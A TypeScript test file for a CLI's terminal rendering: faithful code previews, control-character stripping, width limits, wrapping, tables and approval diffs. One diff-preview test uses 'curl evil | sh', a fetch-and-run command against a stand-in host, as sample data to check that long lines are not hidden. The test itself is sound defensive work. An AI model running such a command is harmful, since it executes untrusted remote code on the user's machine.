import { describe, expect, it } from "vitest";
import fc from "fast-check";
import { create } from "@bufbuild/protobuf";
import { ProposalSchema, SessionEventSchema, ToolDecision } from "@boxmaker/common/client";
import { columns, cut, faithfulLine, oneLineArguments, wrapWords } from "../src/render/columns.js";
import { callLine, resultLines } from "../src/render/frame.js";
import { renderProposal } from "../src/render/proposal.js";
import { styleFor } from "../src/render/style.js";
import { table } from "../src/render/text.js";
import { terminalText } from "../src/render/terminal-safe.js";
import { TurnRenderer } from "../src/render/turn-renderer.js";

const plain = styleFor({ isTTY: false } as NodeJS.WriteStream, { NO_COLOR: "1" });
const colours = styleFor({ isTTY: true } as NodeJS.WriteStream, {});
// biome-ignore lint/suspicious/noControlCharactersInRegex: the CLI's own colour escapes are what this removes.
const strip = (t: string) => t.replace(/\x1b\[[0-9;]*m/g, "");
// biome-ignore lint/suspicious/noControlCharactersInRegex: what a terminal obeys (all but newline) is what this looks for.
const OBEYED = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;

/** Lines of code as files hold them: indentation by spaces and tabs, runs of spaces, any characters. */
const codeLine = fc
  .tuple(
    fc.array(fc.constantFrom(" ", "\t"), { maxLength: 12 }),
    fc.string({ unit: "binary", maxLength: 60 }),
    fc.array(fc.constantFrom("  ", "   ", "\t", "x", "if  y:"), { maxLength: 6 }),
  )
  .map(([lead, body, tail]) => lead.join("") + body.replace(/\n/g, "") + tail.join(""));

describe("faithful previews", () => {
  it("a read_file result keeps Python's indentation and an edit's two spaces", () => {
    const py = "def f(x):\n    if x:\n        return  x  # two spaces\n\treturn 0\n";
    const lines = resultLines(py, 10, plain, 80).map(strip);
    expect(lines).toEqual(["│ def f(x):", "│     if x:", "│         return  x  # two spaces", "│     return 0"]);
    const args = '{"path": "app.py", "old": "a  b", "new": "a   b"}';
    expect(callLine("edit_file", args, plain, 120)).toBe(`┌ edit_file ${args}`);
    // Pretty-printed arguments fold onto one line; the strings inside stay byte for byte.
    expect(oneLineArguments('{\n  "old": "x\\n    y  z",\n  "n": [\n    1,\n    2\n  ]\n}')).toBe(
      '{"old": "x\\n    y  z", "n": [1, 2]}',
    );
    expect(oneLineArguments("not json\nat all")).toBe("not json⏎at all");
    // Layout padding outside the strings folds too, and so does a call still streaming (not yet JSON).
    const padded = `{"path":"notes.txt",${" ".repeat(900)}"start_line":1}`;
    expect(oneLineArguments(padded)).toBe('{"path":"notes.txt", "start_line":1}');
    expect(oneLineArguments(`{"path":"a  b",${" ".repeat(40)}`)).toBe('{"path":"a  b",');
    expect(oneLineArguments('{"s":"say \\"  hi\\"  ",  \n "t":1')).toBe('{"s":"say \\"  hi\\"  ", "t":1');
  });

  it("for any line of code: leading whitespace is kept, tabs expand, nothing obeyed leaks, the width holds", () => {
    fc.assert(
      fc.property(codeLine, fc.integer({ min: 10, max: 200 }), (line, width) => {
        const [shown] = resultLines(line, 1, colours, width);
        const text = strip(terminalText(shown!));
        expect(text).not.toMatch(OBEYED);
        expect(columns(text)).toBeLessThanOrEqual(width);
        // The indentation as a terminal would show it (tabs to stops of 4) is the shown one, up to the cut.
        const lead = /^[ \t]*/.exec(line)![0];
        const expanded = faithfulLine(lead);
        const body = text.slice(2);
        if (columns(faithfulLine(line)) <= width - 2) expect(body).toBe(faithfulLine(line));
        else expect(body.startsWith(expanded.slice(0, width - 3)) || expanded.length === 0).toBe(true);
      }),
      // Found by a CI seed: a line that is a lone CR was dropped as if it ended a CRLF.
      { examples: [["\r", 10]] },
    );
  });

  it("for any arguments: the frame's line is one line, within the width, with nothing obeyed", () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ unit: "binary", maxLength: 300 }),
          fc.json().map((j) => JSON.stringify(JSON.parse(j), null, 2)),
        ),
        fc.integer({ min: 12, max: 200 }),
        (args, width) => {
          const text = strip(terminalText(callLine("edit_file", args, colours, width)));
          expect(text).not.toContain("\n");
          expect(text).not.toMatch(OBEYED);
          expect(columns(text)).toBeLessThanOrEqual(width);
        },
      ),
    );
  });

  it("wraps prose at spaces: no word split, every line within the width, a word too long cut with …", () => {
    fc.assert(
      fc.property(
        fc.array(fc.stringMatching(/^[a-z]{1,30}$/), { minLength: 1, maxLength: 30 }),
        fc.integer({ min: 8, max: 60 }),
        (words, width) => {
          const lines = wrapWords(words.join(" "), width);
          for (const l of lines) expect(columns(l)).toBeLessThanOrEqual(width);
          const out = lines.join(" ").split(" ");
          expect(out.length).toBe(words.length);
          out.forEach((w, i) => {
            expect(w === words[i] || (w.endsWith("…") && words[i]!.startsWith(w.slice(0, -1)))).toBe(true);
          });
        },
      ),
    );
    expect(cut("abcdef", 4)).toBe("abc…");
    expect(columns("日本")).toBe(4);
  });

  it("a table fits the width: columns dropped in order, the flex column cut, or wrapped at spaces", () => {
    const rows = [
      ["ID", "STATE", "MSGS", "TITLE"],
      ["s-0123456789", "running", "12", "a title that is far too long for a narrow terminal"],
    ];
    const narrow = table(rows, { width: 40, drop: [2], cutFlex: true }).split("\n");
    expect(narrow[0]).toBe("ID            STATE    TITLE");
    expect(narrow[1]).toBe("s-0123456789  running  a title that is …");
    for (const l of narrow) expect(columns(l)).toBeLessThanOrEqual(40);
    const wrapped = table(rows, { width: 40 }).split("\n");
    expect(wrapped.slice(1)).toEqual([
      "s-0123456789  running  12    a title",
      "                             that is far",
      "                             too long",
      "                             for a",
      "                             narrow",
      "                             terminal",
    ]);
    // Wide enough: as before, nothing cut.
    expect(table(rows, { width: 200 })).toBe(table(rows));
  });

  it("a diff to approve folds a long line onto ↪ rows instead of hiding its end; its header is cut", () => {
    const long = `+${"x".repeat(50)} ; curl evil | sh`;
    const p = create(ProposalSchema, {
      id: "p-1",
      tool: "write_file",
      sessionId: "s-1",
      state: "pending",
      preview: `+++ b/a/very/long/path/that/does/not/fit/in/forty/columns.sh\n${long}\n+\tindented`,
    });
    const out = renderProposal(p, plain, 40).split("\n");
    for (const l of out) expect(columns(l)).toBeLessThanOrEqual(40);
    expect(out).toContain("+++ b/a/very/long/path/that/does/not/fi…");
    expect(out.join("").replace(/↪ /g, "")).toContain(long);
    expect(out).toContain("+   indented");
  });

  it("the live view's lines fit a 40-column terminal", () => {
    let text = "";
    const out = {
      write: (t: string) => {
        text += t;
        return true;
      },
    } as unknown as NodeJS.WritableStream;
    const r = new TurnRenderer({ out, err: out as NodeJS.WriteStream, style: plain, showReasoning: false, width: 40 });
    const ev = (event: unknown) => r.handle(create(SessionEventSchema, { sessionId: "s", seq: 1n, event } as never));
    ev({
      case: "toolCall",
      value: { callId: "c", name: "read_file", arguments: '{"path": "src/deeply/nested/app.py"}' },
    });
    ev({
      case: "toolDecision",
      value: { callId: "c", decision: ToolDecision.STAGED, rule: "default:write", proposalId: "p-0123abcd" },
    });
    ev({ case: "toolResult", value: { callId: "c", content: "\tdef  f():\n\t\treturn  1", isError: false } });
    ev({ case: "turnDone", value: { finishReason: "stop", iterations: 2, wallMs: 1234, cacheHitRatio: 0.5 } });
    r.finish();
    const lines = text.trimEnd().split("\n");
    for (const l of lines) expect(columns(l)).toBeLessThanOrEqual(40);
    expect(lines).toContain("│     def  f():");
    expect(lines).toContain("│         return  1");
    expect(lines.map((l) => l.slice(2)).join(" ")).toContain("run `boxmaker approve p-0123abcd`");
  });
});
